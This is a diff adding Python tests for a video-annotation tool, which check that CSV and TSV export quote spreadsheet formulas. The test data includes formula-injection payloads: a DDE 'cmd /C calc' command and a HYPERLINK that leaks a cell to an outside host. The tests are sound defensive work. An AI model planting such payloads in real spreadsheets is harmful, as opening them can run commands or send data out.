@@ -357,3 +357,116 @@ def test_registering_absurd_videos_keeps_memory_small(absurd_videos: dict[str, P
     assert done.returncode == 0, done.stderr
     assert done.stdout.count("refused") == len(absurd_videos)
     assert peak < 400, f"peak {peak:.0f} MiB"
+
+
+# -- spreadsheet formulas --------------------------------------------------------------------------
+
+HOSTILE_NOTES = [
+    '=HYPERLINK("https://example.org/?leak="&A1, "see the clip")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''@twice",
+]
+HARMLESS_NOTES = ["-3", "+1.5e3", "-.5", "a - b", "'just a quote", "", "plain = fine"]
+
+
+def _table_with(notes: list[str]):
+    from workbench.annotations import AnnotationTable
+
+    rows = [
+        {
+            "actor": "parent",
+            "code": "waiting",
+            "onset_ms": 100 * i,
+            "offset_ms": 100 * i + 50,
+            "coder": "tester",
+            "note": note,
+            "=cmd|' /C calc'!A0": note,
+            "delta": -i,
+        }
+        for i, note in enumerate(notes)
+    ]
+    return AnnotationTable(rows)
+
+
+def _cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as fh:
+        return list(csv.reader(fh, delimiter="\t" if path.suffix == ".tsv" else ","))
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
+def test_text_a_spreadsheet_would_run_is_written_quoted_and_read_back_as_it_was(tmp_path: Path, suffix: str) -> None:
+    from workbench.io import read_table, write_table
+
+    notes = HOSTILE_NOTES + HARMLESS_NOTES
+    table = _table_with(notes)
+    path = write_table(table, tmp_path / f"coding{suffix}")
+    header, *rows = _cells(path)
+    assert "'=cmd|' /C calc'!A0" in header and "delta" in header
+    written = {row[header.index("note")] for row in rows}
+    for note in HOSTILE_NOTES:
+        assert "'" + note in written, note  # a spreadsheet shows it as text
+    for note in HARMLESS_NOTES:
+        assert note in written, note  # numbers and ordinary text untouched
+    deltas = sorted(int(row[header.index("delta")]) for row in rows)
+    assert deltas == sorted(-i for i in range(len(notes)))  # negative numbers stay numbers
+    back = read_table(path).to_dataframe()
+    assert sorted(back["note"]) == sorted(notes)
+    assert sorted(back["=cmd|' /C calc'!A0"].fillna("")) == sorted(notes)
+
+
+def test_raw_writes_every_cell_as_it_is(tmp_path: Path) -> None:
+    from workbench.io import read_table, write_table
+
+    path = write_table(_table_with(HOSTILE_NOTES), tmp_path / "raw.csv", raw=True)
+    header, *rows = _cells(path)
+    assert "=cmd|' /C calc'!A0" in header
+    assert sorted(row[header.index("note")] for row in rows) == sorted(HOSTILE_NOTES)
+    kept = read_table(path, unquote=False).to_dataframe()
+    assert sorted(kept["note"]) == sorted(HOSTILE_NOTES)
+
+
+def test_workbench_export_quotes_formulas_unless_raw(project_recording, _project_target, tmp_path: Path) -> None:
+    project, rec = project_recording
+    if project.dialect != "sqlite":
+        pytest.skip("the command line opens project folders")
+    project.add_annotation(rec, "parent", "waiting", 0, 400, note=HOSTILE_NOTES[0])
+    project.close()
+    folder = _project_target[0]
+    for name, extra, expected in (
+        ("safe.tsv", [], "'" + HOSTILE_NOTES[0]),
+        ("safe.csv", [], "'" + HOSTILE_NOTES[0]),
+        ("raw.csv", ["--raw"], HOSTILE_NOTES[0]),
+    ):
+        out = tmp_path / name
+        argv = ["-m", "workbench", "export", folder, "--recording", str(rec.id), "--out", str(out), *extra]
+        done, peak = _peak(sys.executable, *argv)
+        assert done.returncode == 0, done.stderr
+        header, row = _cells(out)
+        assert row[header.index("note")] == expected
+        assert peak < 400, f"peak {peak:.0f} MiB"
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "workbench",
+            "export",
+            folder,
+            "--recording",
+            str(rec.id),
+            "--out",
+            str(tmp_path / "x.eaf"),
+            "--raw",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+    assert done.returncode == 2 and "with --raw, but got 'x.eaf'" in done.stderr
+    assert not (tmp_path / "x.eaf").exists()
